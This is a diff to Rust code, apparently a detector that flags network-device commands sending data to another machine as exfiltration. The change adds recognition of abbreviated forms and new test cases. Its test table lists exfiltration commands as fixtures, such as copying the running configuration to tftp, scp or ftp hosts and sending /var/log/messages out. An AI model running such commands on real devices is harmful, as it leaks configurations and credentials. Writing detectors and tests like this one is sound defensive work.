@@ -152,7 +152,10 @@ pub(crate) fn of_device(line: &str) -> Option<Reach> {
     let named = words.iter().skip(1).filter(|word| !word.starts_with('/') || word.holds("://"));
     let first = words.first().map(|word| word.trim_start_matches('/')).unwrap_or_default();
     let copies = words.iter().any(|word| word == "|") || COPYING.iter().any(|full| first.len() > 1 && full.starts_with(first));
-    let goes = copies && named.skip(1).any(|word| is_remote(word)) && !words.get(1).is_some_and(|word| is_remote(word));
+    // Without its sign a device asks for the rest: `copy run tftp`.
+    let asks = |word: &str| first.len() > 2 && "copy".starts_with(first) && word.len() > 1 && REMOTE.iter().any(|full| full.starts_with(word));
+    let leads_away = |word: &String| is_remote(word) || asks(word);
+    let goes = copies && named.skip(1).any(leads_away) && !words.get(1).is_some_and(leads_away);
     let uploads = words.iter().any(|word| matches!(word.as_str(), "upload=yes" | "e-mail" | "upload"));
     if goes || uploads {
         return Some(reach(EXFILTRATION, "device.copy-out", format!("{} carries data to another machine", excerpt(line))));
@@ -231,6 +234,10 @@ mod tests {
             ("copy running-config tftp://192.0.2.1/x", Some(EXFILTRATION)),
             ("copy run scp:", Some(EXFILTRATION)),
             ("copy tftp://192.0.2.1/x flash:", None),
+            ("copy run tftp", Some(EXFILTRATION)),
+            ("cop run sc", Some(EXFILTRATION)),
+            ("copy tftp run", None),
+            ("copy run start", None),
             ("show run | redirect ftp://192.0.2.1/x", Some(EXFILTRATION)),
             ("file copy /var/log/messages scp://h/x", Some(EXFILTRATION)),
             ("/tool fetch upload=yes url=\"ftp://h/\"", Some(EXFILTRATION)),
